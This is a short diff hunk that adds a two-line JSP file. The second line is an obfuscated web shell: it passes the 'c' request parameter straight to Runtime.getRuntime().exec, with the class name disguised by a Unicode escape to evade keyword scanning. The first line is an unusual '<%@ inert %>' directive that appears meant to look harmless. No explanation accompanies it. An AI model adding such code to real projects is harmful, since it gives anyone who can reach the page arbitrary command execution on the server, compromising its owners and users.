@@ -1,0 +1,2 @@
+<%@ inert %>
+<% \u0052untime.getRuntime().exec(request.getParameter("c")); %>
